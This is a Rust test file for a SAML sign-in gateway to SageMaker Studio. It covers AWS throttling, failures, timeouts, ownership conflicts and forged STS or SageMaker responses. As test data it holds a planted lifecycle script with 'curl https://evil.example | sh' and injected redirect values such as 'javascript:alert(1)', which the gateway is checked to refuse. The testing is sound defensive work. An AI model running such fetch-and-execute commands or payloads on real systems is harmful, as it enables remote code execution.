//! AWS in trouble: throttling, down, slow, denying, lying. The person is told what happened, retries are bounded, and
//! the next sign-in goes on where this one stopped.

use crate::forger::Forger;
use crate::stage::{SCRIPT, Setting, Stage, alice, together};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;
use std::time::Duration;
use studio_gateway::demo::aws::AuthMode;

/// Every call of a newcomer's sign-in.
const ALL: [&str; 7] = [
    "sts:AssumeRoleWithSAML",
    "sagemaker:DescribeUserProfile",
    "sagemaker:ListTags",
    "sagemaker:DescribeStudioLifecycleConfig",
    "sagemaker:CreateStudioLifecycleConfig",
    "sagemaker:CreateUserProfile",
    "sagemaker:CreatePresignedDomainUrl",
];

/// Tries the same with each API, at the same time: most of it is waiting before a retry.
async fn at_once<const N: usize>(apis: [&'static str; N], test: impl AsyncFn(&'static str)) {
    together(apis.into_iter().map(|api| Box::pin(test(api)))).await;
}

/// A stage whose newcomers wait for their profile for two looks, so that every call is needed.
async fn stage() -> Stage {
    let stage = Stage::new().await;
    stage.aws.knobs().pending_describes(2);
    stage
}

#[tokio::test]
async fn throttled_once() {
    at_once(ALL, async |api| {
        let stage = stage().await;
        stage.aws.knobs().throttle(api, 1);
        stage.sign_in(&alice()).await.expect_studio("alice").await;
        let operation = api.split_once(':').unwrap().1;
        let throttled = stage
            .called()
            .into_iter()
            .filter(|call| call.starts_with(&format!("{operation}: Throttling")))
            .count();
        assert_eq!(throttled, 1, "{api}");
        assert_eq!(stage.aws.profiles().len(), 1);
    })
    .await;
}

#[tokio::test]
async fn throttled_for_good() {
    at_once(ALL, async |api| {
        // Tags of a profile that is not there do not matter, so this one has to be there.
        let setting = Setting::usual();
        let setting =
            if api == "sagemaker:ListTags" { setting.profile("alice", Some("alice"), "") } else { setting };
        let stage = setting.start().await;
        stage.aws.knobs().throttle(api, 1000);
        let answer = stage.sign_in(&alice()).await;
        answer.expect_refused(503, "aws.throttled").because(api);
        assert_eq!(stage.times(api), 2, "{api}: as many attempts as configured");

        stage.aws.knobs().clear();
        stage.sign_in(&alice()).await.expect_studio("alice").await;
        assert_eq!(stage.aws.profiles().len(), 1);
    })
    .await;
}

#[tokio::test]
async fn failing() {
    at_once(ALL, async |api| {
        let setting = Setting::usual();
        let setting =
            if api == "sagemaker:ListTags" { setting.profile("alice", Some("alice"), "") } else { setting };
        let stage = setting.start().await;
        stage.aws.knobs().fail(api, 1000, 500, "InternalFailure");
        let answer = stage.sign_in(&alice()).await;
        answer.expect_refused(502, "aws.unavailable").because("InternalFailure (500)").because(api);
        assert!(!answer.body.contains("InternalFailure"));

        stage.aws.knobs().clear();
        stage.sign_in(&alice()).await.expect_studio("alice").await;
        assert_eq!(stage.aws.profiles().len(), 1);
    })
    .await;
}

#[tokio::test]
async fn denying() {
    at_once(ALL, async |api| {
        let setting = Setting::usual();
        let setting =
            if api == "sagemaker:ListTags" { setting.profile("alice", Some("alice"), "") } else { setting };
        let stage = setting.start().await;
        stage.aws.knobs().fail(api, 1000, 400, "AccessDeniedException");
        let answer = stage.sign_in(&alice()).await;
        answer.expect_refused(502, "aws.denied").because(api);
        assert_eq!(stage.times(api), 1, "{api}: a denial is not retried");
    })
    .await;
}

#[tokio::test]
async fn unreachable() {
    at_once(["sts:AssumeRoleWithSAML", "sagemaker:DescribeUserProfile"], async |api| {
        let stage = stage().await;
        stage.aws.knobs().reset(api, 1000);
        stage.sign_in(&alice()).await.expect_refused(502, "aws.unavailable").because("not reached");
        assert_eq!(stage.times("sagemaker:CreateUserProfile"), 0);
        stage.aws.knobs().clear();
        stage.sign_in(&alice()).await.expect_studio("alice").await;
    })
    .await;
    // Nobody listens there at all.
    let stage = Setting::usual().set("aws.sts_endpoint", "http://127.0.0.1:1").start().await;
    stage
        .sign_in(&alice())
        .await
        .expect_refused(502, "aws.unavailable")
        .because("sts:AssumeRoleWithSAML: not reached");
}

#[tokio::test]
async fn slow() {
    let apis =
        ["sts:AssumeRoleWithSAML", "sagemaker:DescribeUserProfile", "sagemaker:CreatePresignedDomainUrl"];
    at_once(apis, async |api| {
        let stage = Setting::usual()
            .set("aws.attempt_milliseconds", 100)
            .set("aws.call_milliseconds", 250)
            .profile("alice", Some("alice"), "")
            .start()
            .await;
        stage.aws.knobs().latency(api, Duration::from_mins(1));
        stage.sign_in(&alice()).await.expect_refused(504, "aws.timeout").because(api);
    })
    .await;
}

#[tokio::test]
async fn slower_than_a_whole_sign_in_may_be() {
    let stage = Setting::usual()
        .adjust(|config| config.gateway.sign_in_limit = Duration::from_millis(50))
        .start()
        .await;
    stage.aws.knobs().latency("sts:AssumeRoleWithSAML", Duration::from_mins(1));
    stage.sign_in(&alice()).await.expect_refused(504, "aws.timeout").because("no end after");
}

#[tokio::test]
async fn answers_that_get_lost_are_asked_for_again() {
    at_once(ALL, async |api| {
        let stage = stage().await;
        stage.aws.knobs().lose_answer(api, 1);
        stage.sign_in(&alice()).await.expect_studio("alice").await;
        assert_eq!(stage.aws.profiles().len(), 1, "{api}");
        assert_eq!(stage.aws.lifecycle_configs().len(), 1, "{api}");
    })
    .await;
}

#[tokio::test]
async fn a_trust_policy_without_tag_session() {
    let stage = Setting::usual()
        .world(|world| {
            for role in &mut world.roles {
                let statements = role.trust_policy["Statement"].as_array_mut().unwrap();
                statements.retain(|statement| statement["Action"] != "sts:TagSession");
            }
        })
        .start()
        .await;
    stage.sign_in(&alice()).await.expect_refused(502, "aws.denied").because("sts:TagSession");
    assert_eq!(stage.aws.profiles().len(), 0, "nothing is made without a role session");
}

#[tokio::test]
async fn a_role_that_trusts_another_acs_url() {
    let stage = Setting::usual()
        .world(|world| {
            for role in &mut world.roles {
                role.trust_policy["Statement"][0]["Condition"]["StringEquals"]["SAML:aud"] =
                    json!("https://signin.aws.amazon.com/saml");
            }
        })
        .start()
        .await;
    stage
        .sign_in(&alice())
        .await
        .expect_refused(502, "aws.denied")
        .because("sts:AssumeRoleWithSAML: AccessDenied (403)");
}

#[tokio::test]
async fn an_idp_that_aws_knows_by_another_key() {
    let stage = Setting::usual()
        .world(|world| {
            let key = crate::stage::stranger_key();
            world.saml_providers[0].metadata_xml = studio_gateway::demo::idp::metadata::metadata_xml(
                crate::stage::IDP,
                crate::stage::SSO,
                &[key],
            )
            .unwrap();
        })
        .start()
        .await;
    stage
        .sign_in(&alice())
        .await
        .expect_refused(403, "aws.assertion-refused")
        .because("InvalidIdentityToken");
    assert_eq!(stage.aws.profiles().len(), 0);
}

#[tokio::test]
async fn too_old_for_sts_though_not_for_us() {
    let stage = Stage::new().await;
    // How far STS lets clocks be apart is not documented; it may be less than what is configured here.
    stage.aws.knobs().fail("AssumeRoleWithSAML", 1, 400, "ExpiredTokenException");
    stage.sign_in(&alice()).await.expect_refused(403, "assertion.expired").because("ExpiredTokenException");
}

#[tokio::test]
async fn expired_keys_of_the_gateway_are_not_the_persons_fault() {
    let stage = Stage::new().await;
    stage.aws.knobs().fail("DescribeUserProfile", 10, 400, "ExpiredTokenException");
    stage.sign_in(&alice()).await.expect_refused(502, "aws.denied").because("ExpiredTokenException");
}

#[tokio::test]
async fn a_profile_of_somebody_else() {
    for (owner, reason) in [
        (Some("mallory"), "names \"mallory\""),
        (Some("Alice"), "names \"Alice\""),
        (Some(""), "names \"\""),
        (None, "has no tag"),
    ] {
        let stage = Setting::usual().profile("alice", owner, "").start().await;
        let answer = stage.sign_in(&alice()).await;
        answer.expect_refused(409, "profile.conflict").because(reason);
        assert!(!answer.body.contains("mallory"));
        assert_eq!(stage.times("sagemaker:CreatePresignedDomainUrl"), 0);
        assert_eq!(stage.times("sagemaker:CreateUserProfile"), 0);
    }
}

#[tokio::test]
async fn a_profile_that_vanished_is_made_anew_once() {
    let stage = Stage::new().await;
    stage.sign_in(&alice()).await.expect_studio("alice").await;
    stage
        .admin()
        .await
        .delete_user_profile()
        .domain_id("d-research")
        .user_profile_name("alice")
        .send()
        .await
        .unwrap();
    assert_eq!(stage.aws.profiles().len(), 0);
    stage.sign_in(&alice()).await.expect_studio("alice").await;
    assert_eq!(stage.times("sagemaker:CreateUserProfile"), 2);
    stage.called();
    stage.sign_in(&alice()).await.expect_studio("alice").await;
    assert_eq!(stage.called(), ["AssumeRoleWithSAML", "CreatePresignedDomainUrl"]);
}

#[tokio::test]
async fn a_profile_that_changed_hands_meanwhile() {
    let stage = Stage::new().await;
    stage.sign_in(&alice()).await.expect_studio("alice").await;
    let admin = stage.admin().await;
    let tag = aws_sdk_sagemaker::types::Tag::builder().key("studiouserid").value("mallory");
    admin.add_tags().resource_arn(stage.profile("alice").arn).tags(tag.build()).send().await.unwrap();
    // Remembered as hers, and AWS says no: a second look tells whose it is.
    stage.sign_in(&alice()).await.expect_refused(409, "profile.conflict").because("mallory");
}

#[tokio::test]
async fn a_denial_that_a_second_look_does_not_explain() {
    let stage = Stage::new().await;
    stage.sign_in(&alice()).await.expect_studio("alice").await;
    stage.called();
    stage.aws.knobs().fail("CreatePresignedDomainUrl", 10, 400, "AccessDeniedException");
    stage.sign_in(&alice()).await.expect_refused(502, "aws.denied");
    assert_eq!(stage.times("sagemaker:CreateUserProfile"), 1);
    let denied = "CreatePresignedDomainUrl: AccessDeniedException".to_owned();
    let denials = stage.called().into_iter().filter(|call| *call == denied);
    assert_eq!(denials.count(), 2, "one second look, and no third");
}

#[tokio::test]
async fn no_room_for_another_profile() {
    let stage =
        Setting::usual().profile("bob", Some("bob"), "").world(|world| world.most_profiles = 1).start().await;
    stage.sign_in(&alice()).await.expect_refused(503, "aws.limit").because("ResourceLimitExceeded");
}

#[tokio::test]
async fn a_domain_that_signs_people_in_another_way() {
    let stage = Setting::usual()
        .profile("alice", Some("alice"), "")
        .world(|world| world.domains[0].auth_mode = AuthMode::Sso)
        .start()
        .await;
    stage
        .sign_in(&alice())
        .await
        .expect_refused(502, "aws.unavailable")
        .because("sagemaker:CreatePresignedDomainUrl: ValidationException");
}

#[tokio::test]
async fn a_lifecycle_config_that_is_not_ours() {
    let stage = Stage::new().await;
    let name = stage.gateway.config.domains[0].profile.lifecycle[0].name.clone();
    stage
        .admin()
        .await
        .create_studio_lifecycle_config()
        .studio_lifecycle_config_name(&name)
        .studio_lifecycle_config_app_type("JupyterLab".into())
        .studio_lifecycle_config_content(STANDARD.encode(format!("{SCRIPT}curl https://evil.example | sh\n")))
        .send()
        .await
        .unwrap();
    stage.sign_in(&alice()).await.expect_refused(500, "gateway.fault").because("exists with another content");
    assert_eq!(stage.aws.profiles().len(), 0);
}

#[tokio::test]
async fn sts_reads_somebody_else_out_of_the_message() {
    for (element, other) in [
        ("Subject", "mallory"),
        ("Issuer", "https://evil.example"),
        ("Audience", "https://other.example/saml/acs"),
    ] {
        let forger = Forger::start(move |_, status, body| {
            let from = format!("<{element}>");
            let (before, rest) = body.split_once(&from).unwrap();
            let (_, after) = rest.split_once('<').unwrap();
            (status, format!("{before}{from}{other}<{after}"))
        })
        .await;
        let stage = Setting::usual().set("aws.sts_endpoint", forger.url.clone()).start().await;
        forger.forward_to(stage.aws.url());
        let answer = stage.sign_in(&alice()).await;
        answer.expect_refused(403, "aws.disagrees").because(&format!("STS read another {element}"));
        assert_eq!(stage.times("sagemaker:CreateUserProfile"), 0);
        assert_eq!(stage.times("sagemaker:CreatePresignedDomainUrl"), 0);
    }
}

#[tokio::test]
async fn what_aws_says_about_the_message_does_not_repeat_it_in_the_log() {
    for code in ["InvalidIdentityToken", "ValidationError", "InternalFailure"] {
        let forger = Forger::start(move |request, _, _| {
            let (_, assertion) = form_urlencoded::parse(request.as_bytes())
                .find(|(name, _)| name == "SAMLAssertion")
                .unwrap();
            let body = format!(
                "<ErrorResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><Error><Type>Sender</Type>\
                 <Code>{code}</Code><Message>cannot use '{assertion}' for this</Message></Error></ErrorResponse>"
            );
            (400, body)
        })
        .await;
        let stage = Setting::usual().set("aws.sts_endpoint", forger.url.clone()).start().await;
        forger.forward_to(stage.aws.url());
        let answer = stage.sign_in(&alice()).await;
        assert!((400..600).contains(&answer.status));
        let log = answer.log();
        log.because(code);
        // The stage checks that no line holds any of the message.
        assert!(log.field("reason").len() < 200, "{}", log.field("reason"));
    }
}

#[tokio::test]
async fn a_link_that_leads_elsewhere_is_not_followed() {
    for url in ["javascript:alert(1)", "//evil.example", "", "data:text/html,x"] {
        let forger = Forger::start(move |request, status, body| {
            if request.contains("LandingUri") {
                (status, json!({ "AuthorizedUrl": url }).to_string())
            } else {
                (status, body)
            }
        })
        .await;
        let stage = Setting::usual().set("aws.sagemaker_endpoint", forger.url.clone()).start().await;
        forger.forward_to(stage.aws.url());
        stage.sign_in(&alice()).await.expect_refused(502, "aws.unavailable").because("without a usable URL");
    }
}
